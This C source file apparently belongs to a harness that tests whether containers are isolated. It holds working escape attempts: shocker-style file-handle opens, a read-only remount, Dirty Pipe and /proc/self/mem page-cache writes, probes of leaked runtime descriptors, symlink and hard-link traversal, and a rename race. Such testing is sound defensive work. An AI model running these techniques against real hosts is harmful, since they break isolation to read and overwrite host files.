// Files of the host that are near to those of the container.
#include "attack.h"
#include <linux/fs.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>

// A file is opened by its handle, without its path (CAP_DAC_READ_SEARCH; "shocker" of 2014). The host tells the handle:
// the attacker is one who has guessed it.
void file_handle(void) {
    union {
        struct file_handle handle;
        char bytes[sizeof(struct file_handle) + 128];
    } wanted = {.handle = {.handle_type = atoi(given("HANDLE_TYPE"))}};
    const char *digits = given("HANDLE");
    for (; digits[0] && digits[1] && wanted.handle.handle_bytes < 128; digits += 2) {
        unsigned byte;
        if (sscanf(digits, "%2x", &byte) != 1) return;
        wanted.handle.f_handle[wanted.handle.handle_bytes++] = byte;
    }
    int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int file = open_by_handle_at(root, &wanted.handle, O_RDONLY | O_CLOEXEC);
    note("open_by_handle_at of the host's handle", file);
    if (file >= 0) show(file);
    // The root of ext4 and others has inode 2, the root of FUSE node 1, in FUSE's own form of handles.
    uint32_t guesses[][3] = {{2, 0, 0}, {0, 1, 0}, {0, 2, 0}};
    for (int n = 0; n < 3; n++) {
        wanted.handle.handle_type = n == 0 ? 1 : 0x81;
        wanted.handle.handle_bytes = n == 0 ? 8 : 12;
        memcpy(wanted.handle.f_handle, guesses[n], 12);
        file = open_by_handle_at(root, &wanted.handle, O_RDONLY | O_CLOEXEC);
        note("open_by_handle_at of a root", file);
        if (file >= 0) show_at(file, given("HANDLE_PATH_BELOW"));
        if (file >= 0) show_at(file, given("HANDLE_PATH") + 1);
    }
}

// A folder of the host, mounted read-only, that is to be written.
void read_only_mount(void) {
    char token[128];
    snprintf(token, sizeof token, "%s/%s", "/mnt/read-only", given("READ_ONLY_NAME"));
    note("as it is", put(token, "written\n"));
    note("mount", mount(NULL, "/mnt/read-only", NULL, MS_REMOUNT | MS_BIND, NULL));
    note("mounted writable", put(token, "written\n"));
    mount(NULL, "/mnt/read-only", NULL, MS_REMOUNT, NULL);
    note("its file system mounted writable", put(token, "written\n"));
}

// What CVE-2022-0847 does: a pipe whose buffers were once merged takes a page of a file, and what is then written to the
// pipe lands in that page.
void page_cache(void) {
    int file = open("/mnt/read-only/cached", O_RDONLY | O_CLOEXEC), pipes[2];
    if (file < 0 || pipe(pipes) != 0) return;
    char page[4096] = {0};
    int capacity = fcntl(pipes[1], F_GETPIPE_SZ);
    for (int done = 0; done < capacity; done += sizeof page)
        if (write(pipes[1], page, sizeof page) != sizeof page) return;
    for (int done = 0; done < capacity; done += sizeof page)
        if (read(pipes[0], page, sizeof page) != sizeof page) return;
    loff_t offset = 0;
    note("splice", splice(file, &offset, pipes[1], NULL, 1, 0));
    const char *token = given("CACHE_TOKEN");
    note("write", write(pipes[1], token, strlen(token)));
    // The older way: a mapping that cannot be written, written by way of /proc/self/mem (after CVE-2016-5195).
    void *mapping = mmap(NULL, sizeof page, PROT_READ, MAP_SHARED, file, 0);
    int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    if (mapping != MAP_FAILED)
        note("/proc/self/mem", pwrite(memory, token, strlen(token), (off_t)(uintptr_t)mapping));
}

// Descriptors that were left open by those who made the container (CVE-2024-21626, CVE-2016-9962): a folder of the
// host's file system is all that it takes.
void leaked_descriptor(void) {
    static const char *const ways[] = {"secret", "../secret", "../../secret", "../../../secret"};
    char path[64];
    for (size_t way = 0; way < 4; way++) show_at(AT_FDCWD, ways[way]);
    for (int n = 3; n < 256; n++) {
        struct stat about;
        if (fstat(n, &about) != 0) continue;
        fprintf(stderr, "  descriptor %d: mode %o\n", n, about.st_mode);
        for (size_t way = 0; way < 4; way++) show_at(n, ways[way]);
    }
    for (int n = 0; n < 64; n++)
        for (size_t way = 0; way < 2; way++) {
            snprintf(path, sizeof path, "/proc/1/fd/%d/%s", n, ways[way]);
            show_at(AT_FDCWD, path);
        }
}

// Names that lead out of a shared folder for whoever follows them on the host.
void share_links(void) {
    const char *secret = given("LINK_SECRET");
    char path[1024];
    if (chdir("/mnt/share") != 0) return;
    symlink(secret, "absolute");
    snprintf(path, sizeof path, "../../../../../../../../../../..%s", secret);
    symlink(path, "relative");
    symlink("..", "parent");
    symlink("absolute", "twice");
    note("hard link", linkat(AT_FDCWD, "absolute", AT_FDCWD, "hard", AT_SYMLINK_FOLLOW));
    static const char *const names[] = {"absolute", "relative", "twice", "hard", "parent/../../../secret", "../secret"};
    for (size_t n = 0; n < sizeof names / sizeof *names; n++) show_at(AT_FDCWD, names[n]);
    // From the outermost folder that can be reached.
    for (int n = 0; n < 32; n++)
        if (chdir("..") != 0) break;
    show_at(AT_FDCWD, secret + 1);
    // Through the mount's own root, as another mount of the same file system.
    mkdir("/tmp/again", 0755);
    if (mount("/mnt/share", "/tmp/again", NULL, MS_BIND, NULL) == 0) show_at(AT_FDCWD, "/tmp/again/../secret");
}

// What there is to attack is the runtime, before the container runs.
void mount_link(void) { show_at(AT_FDCWD, "/link/made"); }

// A folder and a link that take each other's place while the host opens what is in it.
void share_race(void) {
    if (chdir("/mnt/share") != 0) return;
    mkdir("turning", 0755);
    put("turning/secret", "harmless\n");
    symlink(given("RACE_FOLDER"), "turned");
    time_t end = time(NULL) + 2;
    pid_t turner = fork();
    if (turner == 0)
        while (time(NULL) < end)
            syscall(SYS_renameat2, AT_FDCWD, "turning", AT_FDCWD, "turned", RENAME_EXCHANGE);
    char page[256];
    while (turner > 0 && time(NULL) < end) {
        int file = open("turning/secret", O_RDONLY | O_CLOEXEC);
        if (file < 0) continue;
        ssize_t size = read(file, page, sizeof page);
        close(file);
        if (size > 0 && page[0] != 'h' && write(1, page, size) != size) break;
    }
    if (turner == 0) _exit(0);
    waitpid(turner, NULL, 0);
}
